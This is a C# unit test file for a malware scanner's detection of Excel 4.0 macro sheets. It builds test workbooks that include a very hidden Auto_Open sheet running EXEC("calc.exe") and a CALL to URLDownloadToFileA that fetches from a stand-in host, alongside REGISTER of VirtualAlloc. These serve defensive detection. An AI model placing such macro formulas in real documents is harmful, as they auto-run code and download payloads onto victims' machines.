using System.Text;
using Crible.Model;

namespace Crible.Tests.Scanners.Office.Xlm;

/// <summary>Excel 4.0 macro sheets in Excel 2007+ packages built by the tests.</summary>
public sealed class OoxmlXlmScannerTests
{
    private const string ContentTypes = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/></Types>";

    [Fact]
    public async Task A_very_hidden_macro_sheet_that_opens_itself_and_runs_EXEC_is_malicious()
    {
        var xlsm = Workbook("veryHidden", "_xlnm.Auto_Open", "<c r=\"A1\" t=\"str\"><f>EXEC(\"calc.exe\")</f><v>0</v></c><c r=\"A2\"><f>RETURN()</f></c>");

        var report = await TestEngine.Default.AnalyseAsync(xlsm, "book.xlsm");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var payload = Assert.Single(report.Nodes[0].Findings, f => f.Id == "xlm-auto-exec-payload");
        Assert.Contains("Macro1!A1: EXEC \"calc.exe\"", payload.Evidence, StringComparison.Ordinal);
        Assert.Contains("_xlnm.Auto_Open", payload.Evidence, StringComparison.Ordinal);
        Assert.Equal(["T1204.002", "T1059"], payload.Attack);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "xlm-hidden-macro-sheet" && f.Evidence == "Macro1 (veryHidden)");
    }

    [Fact]
    public async Task CALL_and_REGISTER_without_Auto_Open_are_suspicious()
    {
        var xlsm = Workbook("visible", "Print_Area", "<c r=\"B3\"><f>REGISTER(\"Kernel32\",\"VirtualAlloc\",\"JJJJJ\",\"VA\",,1,9)</f></c><c r=\"B4\"><f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://dl.example.net/x\",\"c:\\x\",0,0)</f></c>");

        var report = await TestEngine.Default.AnalyseAsync(xlsm, "book.xlsm");

        Assert.NotEqual(Verdict.Malicious, report.Verdict);
        var execute = Assert.Single(report.Nodes[0].Findings, f => f.Id == "xlm-execute");
        Assert.Equal(Severity.Suspicious, execute.Severity);
        Assert.Contains("Macro1!B4: CALL", execute.Evidence, StringComparison.Ordinal);
        Assert.Contains(report.Nodes[0].Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://dl.example.net/x");
    }

    [Fact]
    public async Task A_visible_macro_sheet_that_only_adds_numbers_is_informational()
    {
        var report = await TestEngine.Default.AnalyseAsync(Workbook("visible", "Print_Area", "<c r=\"A1\"><f>SUM(1,2)</f></c>"), "book.xlsm");

        Assert.Equal(Verdict.Clean, report.Verdict);
        Assert.Equal(Severity.Info, Assert.Single(report.Nodes[0].Findings, f => f.Id == "xlm-macro-sheet").Severity);
        Assert.DoesNotContain(report.Nodes[0].Findings, f => f.Severity != Severity.Info && f.Scanner == "xlm-ooxml");
    }

    [Fact]
    public async Task An_XLSB_macro_sheet_with_an_Auto_Open_name_is_suspicious()
    {
        var xlsb = TestZip.Create(
            ("[Content_Types].xml", Encoding.UTF8.GetBytes(ContentTypes.Replace("workbook.xml", "workbook.bin", StringComparison.Ordinal))),
            ("xl/workbook.bin", [0x83, 0x01, 0x00, .. Encoding.Unicode.GetBytes("Auto_Open"), 0x84, 0x01]),
            ("xl/macrosheets/sheet1.bin", new byte[64]));

        var report = await TestEngine.Default.AnalyseAsync(xlsb, "book.xlsb");

        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "xlm-macro-sheet");
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "xlm-auto-open" && f.Severity == Severity.Suspicious);
    }

    internal static byte[] Workbook(string state, string definedName, string cells) => TestZip.Create(
        ("[Content_Types].xml", Encoding.UTF8.GetBytes(ContentTypes)),
        ("xl/workbook.xml", Encoding.UTF8.GetBytes($"""
            <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
              <sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="{state}" r:id="rId2"/></sheets>
              <definedNames><definedName name="{definedName}" hidden="1">Macro1!$A$1</definedName></definedNames>
            </workbook>
            """)),
        ("xl/_rels/workbook.xml.rels", Encoding.UTF8.GetBytes("""
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
              <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>
              <Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>
            </Relationships>
            """)),
        ("xl/worksheets/sheet1.xml", "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData/></worksheet>"u8.ToArray()),
        ("xl/macrosheets/sheet1.xml", Encoding.UTF8.GetBytes($"<xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\">{cells}</row></sheetData></xm:macrosheet>")));
}
